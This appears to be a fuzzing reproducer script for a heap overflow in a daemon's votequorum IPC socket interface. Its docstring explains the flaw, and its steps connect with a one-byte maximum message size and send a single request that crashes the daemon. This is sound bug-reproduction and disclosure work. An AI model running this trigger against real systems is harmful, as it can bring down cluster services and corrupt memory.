"""A client asks for messages of at most 1 byte: over sockets, its first request overflows the daemon's heap.

Class: memory corruption (heap overflow). The buffer for requests has the size that the client asked for;
what is received into it is as long as the request says.
Reach: any user who may connect. Configuration: `system { qb_ipc_type: socket }`. Cost: one request.
Last words: free(): invalid next size (fast); or munmap_chunk(): invalid pointer. strace: SIGABRT.
"""

from __future__ import annotations

from fuzz.reproduce import reproduce
from votequorum_ipc.attack import Close, Connect, Send
from votequorum_ipc.wire import votequorum

TRANSPORTS = ("socket",)
OUTCOME = "dies or hangs"

STEPS = (
    Connect(0, "votequorum", max_msg_size=1),
    Send(0, votequorum.TRACKSTART.encode(context=0, track_flags=0)),
    Close(0),
)

if __name__ == "__main__":
    reproduce(STEPS, __doc__)
